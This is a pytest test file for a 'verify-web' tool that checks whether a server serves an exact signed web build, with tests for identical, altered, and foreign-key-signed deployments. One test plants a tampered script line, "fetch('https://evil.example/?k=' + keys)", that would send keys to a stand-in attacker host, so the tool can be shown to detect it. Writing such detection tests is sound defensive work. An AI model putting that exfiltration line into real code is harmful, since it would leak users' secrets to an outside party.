"""`confidant verify-web`: a server serving exactly our build passes; any changed file, encoded copy or
manifest signature is named."""

from __future__ import annotations

import argparse
import asyncio
import base64
import gzip
import hashlib
import json
import shutil
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from aiohttp import web

from crypto.primitives import ed25519_seed_keypair, ed25519_sign
from server.app import build_app
from server.config import Settings
from server.verify_web import run_verify_web
from tests.fixtures.ports import free_port

FILES = {
    "index.html": b"<!doctype html><title>Confidant</title><script src=/assets/app-1.js></script>",
    "assets/app-1.js": b"console.log('the pinned release');" * 20,
    "sw.js": b"self.addEventListener('fetch', () => {});",
}


def make_build(root: Path, seed: bytes) -> None:
    public, secret = ed25519_seed_keypair(seed)
    for name, body in FILES.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(body)
        (root / f"{name}.gz").write_bytes(gzip.compress(body, mtime=0))
    pinned = {f"/{n}": hashlib.sha256(b).hexdigest() for n, b in FILES.items() if n != "sw.js"}
    manifest = {
        "app": "confidant-web",
        "version": "1",
        "built_at": "2026-11-28T00:00:00Z",
        "release_key": base64.b64encode(public).decode(),
        "files": pinned,
    }
    text = json.dumps(manifest).encode()
    (root / "release.json").write_bytes(text)
    (root / "release.sig").write_text(base64.b64encode(ed25519_sign(secret, text)).decode())


@pytest.fixture
async def served(tmp_path: Path) -> AsyncIterator[tuple[str, Path, Path]]:
    local, remote = tmp_path / "local", tmp_path / "remote"
    make_build(local, b"k" * 32)
    shutil.copytree(local, remote)
    port = free_port()
    built = build_app(Settings(port=port, data_dir=tmp_path / "data", web_root=remote))
    built.ctx.background.clear()
    runner = web.AppRunner(built.app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", port).start()
    try:
        yield f"http://127.0.0.1:{port}", local, remote
    finally:
        await runner.cleanup()


async def verify(url: str, dist: Path) -> tuple[int, str]:
    lines: list[str] = []
    args = argparse.Namespace(url=url, dist=dist)
    status = await asyncio.to_thread(run_verify_web, args, lines.append)
    return status, "\n".join(lines)


async def test_identical_build_passes(served: tuple[str, Path, Path]) -> None:
    url, local, _ = served
    status, out = await verify(url, local)
    assert status == 0, out
    assert "identical: 4 files" in out


async def test_changed_file_and_changed_gzip_copy_are_named(served: tuple[str, Path, Path]) -> None:
    url, local, remote = served
    (remote / "assets" / "app-1.js").write_bytes(b"fetch('https://evil.example/?k=' + keys);")
    (remote / "sw.js.gz").write_bytes(gzip.compress(b"self.skipWaiting();"))
    status, out = await verify(url, local)
    assert status == 1, out
    assert "DIFFERS /assets/app-1.js" in out and "DIFFERS /sw.js" in out
    assert "same    /index.html" in out
    assert "does NOT serve your build" in out


async def test_manifest_signed_by_another_key_is_named(served: tuple[str, Path, Path]) -> None:
    url, local, remote = served
    shutil.rmtree(remote)
    make_build(remote, b"x" * 32)  # same files, another deployment's key
    status, out = await verify(url, local)
    assert status == 1, out
    assert "not signed by the local build's release key" in out


async def test_no_local_build_or_no_server_is_unusable(tmp_path: Path) -> None:
    status, out = await verify("http://127.0.0.1:9", tmp_path)
    assert status == 2 and "no local build" in out
    make_build(tmp_path, b"k" * 32)
    status, out = await verify(f"http://127.0.0.1:{free_port()}", tmp_path)
    assert status == 2 and "cannot reach" in out
